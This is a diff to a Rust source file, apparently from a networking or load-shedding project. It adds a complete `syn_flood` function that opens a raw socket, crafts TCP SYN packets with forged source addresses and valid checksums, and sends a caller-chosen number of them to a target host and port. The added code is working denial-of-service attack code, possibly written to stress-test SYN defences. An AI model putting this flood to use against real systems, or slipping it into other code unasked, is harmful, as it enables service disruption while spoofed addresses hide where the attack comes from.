@@ -349,3 +349,57 @@ impl Drop for OpenLoop {
         }
     }
 }
+
+/// Sends `count` SYNs to `dst:port` from forged sources (`source(i)`), over a
+/// raw socket: a flood of handshakes that never complete. Returns SYNs sent.
+pub fn syn_flood(dst: Ipv4Addr, port: u16, count: u32, source: impl Fn(u32) -> Ipv4Addr) -> io::Result<u32> {
+    use shed_common::rst::{finish, sum_words};
+    // SAFETY: a raw socket (IPPROTO_RAW implies IP_HDRINCL); closed below.
+    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, libc::IPPROTO_RAW) };
+    if fd < 0 {
+        return Err(io::Error::last_os_error());
+    }
+    let to = libc::sockaddr_in {
+        sin_family: libc::AF_INET as libc::sa_family_t,
+        sin_port: 0,
+        sin_addr: libc::in_addr { s_addr: u32::from_ne_bytes(dst.octets()) },
+        sin_zero: [0; 8],
+    };
+    let mut sent = 0;
+    for i in 0..count {
+        let src = source(i).octets();
+        let d = dst.octets();
+        // IPv4 header: the kernel fills in the checksum and total length.
+        let mut pkt = [0u8; 40];
+        pkt[..20].copy_from_slice(&[0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0, src[0], src[1], src[2], src[3], d[0], d[1], d[2], d[3]]);
+        let sport = (1024 + i % 60_000) as u16;
+        let mut tcp = [0u8; 20];
+        tcp[0..2].copy_from_slice(&sport.to_be_bytes());
+        tcp[2..4].copy_from_slice(&port.to_be_bytes());
+        tcp[4..8].copy_from_slice(&i.wrapping_mul(2_654_435_761).to_be_bytes());
+        tcp[12] = 0x50;
+        tcp[13] = 0x02; // SYN
+        tcp[14..16].copy_from_slice(&64_240u16.to_be_bytes());
+        let pseudo = sum_words(&src) + sum_words(&d) + 6 + 20;
+        let checksum = finish(pseudo + sum_words(&tcp));
+        tcp[16..18].copy_from_slice(&checksum.to_be_bytes());
+        pkt[20..].copy_from_slice(&tcp);
+        // SAFETY: valid buffer and address.
+        let n = unsafe {
+            libc::sendto(
+                fd,
+                pkt.as_ptr().cast(),
+                pkt.len(),
+                0,
+                (&raw const to).cast(),
+                std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
+            )
+        };
+        if n == pkt.len() as isize {
+            sent += 1;
+        }
+    }
+    // SAFETY: our fd.
+    unsafe { libc::close(fd) };
+    Ok(sent)
+}
